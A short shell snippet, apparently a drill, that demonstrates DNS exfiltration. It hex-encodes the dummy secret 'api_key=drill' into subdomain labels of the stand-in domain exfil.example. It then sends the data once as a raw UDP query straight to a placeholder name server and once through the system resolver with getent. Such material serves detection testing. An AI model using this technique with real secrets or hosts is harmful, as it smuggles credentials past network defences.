# Data in the labels of names: once straight to the attacker's name server, once through the system's resolver.
perl -MIO::Socket::INET -e '
    my $name = unpack("H*", "api_key=drill") . ".a.exfil.example";
    my $query = pack("n6", 4711, 0x0100, 1, 0, 0, 0) . join("", map { pack("C/a", $_) } split /\./, $name) . pack("C n n", 0, 1, 1);
    my $socket = IO::Socket::INET->new(PeerAddr => "203.0.113.53", PeerPort => 53, Proto => "udp") or die "socket: $!\n";
    $socket->send($query) or die "send: $!\n";
    my $ready = "";
    vec($ready, fileno($socket), 1) = 1;
    select($ready, undef, undef, 1) or die "no answer\n";
    $socket->recv(my $answer, 512);
    print "name server answered ", length($answer), " bytes\n";
'
timeout 2 getent hosts 7365636f6e642068616c66.b.exfil.example || echo "resolver: no such name"
